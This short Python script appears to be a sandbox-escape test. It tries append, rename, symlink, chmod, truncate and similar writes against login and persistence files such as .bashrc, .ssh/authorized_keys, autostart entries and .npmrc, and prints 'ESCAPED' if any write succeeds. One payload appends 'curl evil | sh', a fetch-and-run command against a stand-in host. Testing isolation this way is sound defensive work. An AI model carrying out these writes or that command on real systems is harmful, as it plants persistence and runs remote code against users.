# Writes to the dot-files that a login would run, by every way of writing.
import os

print("ATTEMPTED")
for name in ".bashrc", ".profile", ".ssh/authorized_keys", ".config/autostart/x.desktop", ".gitconfig", ".npmrc", ".local/bin/ls":
    path = "@TARGET_DIR@/" + name
    for write in (
        lambda: open(path, "a").write("curl evil | sh\n"),
        lambda: os.write(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CREAT), b"x"),
        lambda: os.rename(path, path + ".bak"),
        lambda: os.symlink("/tmp/x", path + "2"),
        lambda: os.chmod(path, 0o777),
        lambda: os.truncate(path, 0),
        lambda: os.utime(path),
    ):
        try:
            print("ESCAPED", write())
        except Exception as error:
            type(error)
